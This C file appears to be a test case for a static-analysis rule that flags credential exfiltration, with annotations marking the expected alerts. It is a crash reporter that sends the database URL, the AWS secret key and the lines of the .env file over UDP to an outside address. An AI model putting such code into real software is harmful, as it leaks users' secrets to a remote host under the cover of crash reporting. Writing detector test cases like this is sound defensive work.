/*
 * taint.exfiltration (secret): a crash reporter that attaches "useful
 * context" to a UDP report: DATABASE_URL and AWS_SECRET_ACCESS_KEY from the
 * environment, and the project's .env file. The look-alikes send the signal
 * number, the program name from argv and a constant build id, and only say
 * whether the credentials were set.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define BUILD_ID "2024.11.3-g1a2b3c"

static void send_report(int sock, const struct sockaddr_in *to, const char *msg)
{
    sendto(sock, msg, strlen(msg), 0, (const struct sockaddr *)to, sizeof(*to));
}

void report_crash(int signo, const char *prog)
{
    char msg[1024], line[256];
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(9125) };
    int sock = socket(AF_INET, SOCK_DGRAM, 0);
    if (sock < 0)
        return;
    inet_pton(AF_INET, "203.0.113.7", &to.sin_addr);

    snprintf(msg, sizeof(msg), "crash prog=%s sig=%d build=%s", prog, signo, BUILD_ID);
    send_report(sock, &to, msg);

    const char *db = getenv("DATABASE_URL");
    const char *aws = getenv("AWS_SECRET_ACCESS_KEY");
    snprintf(msg, sizeof(msg), "ctx db_set=%d aws_set=%d", db != NULL, aws != NULL);
    send_report(sock, &to, msg);
    if (db) {
        snprintf(msg, sizeof(msg), "ctx db=%s", db);
        sendto(sock, msg, strlen(msg), 0, (const struct sockaddr *)&to, sizeof(to)); // $ Alert[taint.exfiltration]
    }
    if (aws)
        sendto(sock, aws, strlen(aws), 0, (const struct sockaddr *)&to, sizeof(to)); // $ Alert[taint.exfiltration]

    FILE *env = fopen(".env", "r");
    if (env) {
        while (fgets(line, sizeof(line), env))
            sendto(sock, line, strlen(line), 0, (const struct sockaddr *)&to, sizeof(to)); // $ Alert[taint.exfiltration]
        fclose(env);
    }
    close(sock);
}

int main(int argc, char **argv)
{
    (void)argc;
    report_crash(11, argv[0]);
    return 0;
}
